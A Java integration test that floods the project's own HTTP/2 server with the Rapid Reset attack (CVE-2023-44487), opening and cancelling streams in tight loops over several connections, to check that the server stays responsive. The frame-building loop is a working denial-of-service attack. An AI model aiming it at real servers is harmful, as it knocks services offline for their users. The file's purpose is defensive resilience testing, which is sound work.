package org.belfry.system.attack;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Stream;
import org.belfry.system.Belfry;
import org.belfry.system.OnEveryDatabase;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.Isolated;

/** HTTP/2 streams that are opened and reset in a loop (CVE-2023-44487) are nobody's trouble. */
@Isolated("others would take the processors that are measured")
@OnEveryDatabase
class RapidResetIT {
  private static final int CONNECTIONS = 4;
  private static final Duration ATTACK = Duration.ofSeconds(5);
  private static final int STREAMS_OF_A_BATCH = 100;
  private static final int MORE_THREADS = 32;

  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

  private static final byte SETTINGS = 4;
  private static final byte HEADERS = 1;
  private static final byte RST_STREAM = 3;
  private static final byte WHOLE = 5;

  /** GET http://x/, in HPACK. */
  private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};

  private static final byte[] CANCEL = {0, 0, 0, 8};

  private final Belfry belfry;

  RapidResetIT(Belfry belfry) {
    this.belfry = belfry;
  }

  @Test
  void resetsInALoopDisturbNobody() {
    Vitals.during(belfry, this::attack).bearable(MORE_THREADS);
  }

  private void attack() {
    long end = System.nanoTime() + ATTACK.toNanos();
    List<CompletableFuture<Void>> attackers =
        Stream.generate(() -> CompletableFuture.runAsync(() -> attack(belfry.url(), end)))
            .limit(CONNECTIONS)
            .toList();
    attackers.forEach(CompletableFuture::join);
  }

  private static void attack(URI server, long end) {
    while (System.nanoTime() < end) {
      resetUntilClosed(server, end);
    }
  }

  private static void resetUntilClosed(URI server, long end) {
    try (Socket socket = new Socket(server.getHost(), server.getPort());
        OutputStream out = new BufferedOutputStream(socket.getOutputStream())) {
      out.write(PREFACE);
      out.write(frame(SETTINGS, (byte) 0, 0, new byte[0]));
      for (int stream = 1; System.nanoTime() < end; ) {
        for (int i = 0; i < STREAMS_OF_A_BATCH; i++, stream += 2) {
          out.write(frame(HEADERS, WHOLE, stream, REQUEST));
          out.write(frame(RST_STREAM, (byte) 0, stream, CANCEL));
        }
        out.flush();
      }
    } catch (IOException closed) {
      // That is what is wanted; the attacker connects again.
      Thread.onSpinWait();
    }
  }

  private static byte[] frame(byte type, byte flags, int stream, byte[] payload) {
    ByteArrayOutputStream frame = new ByteArrayOutputStream();
    frame.write(0);
    frame.write(payload.length >> Byte.SIZE);
    frame.write(payload.length);
    frame.write(type);
    frame.write(flags);
    frame.writeBytes(ByteBuffer.allocate(Integer.BYTES).putInt(stream).array());
    frame.writeBytes(payload);
    return frame.toByteArray();
  }
}
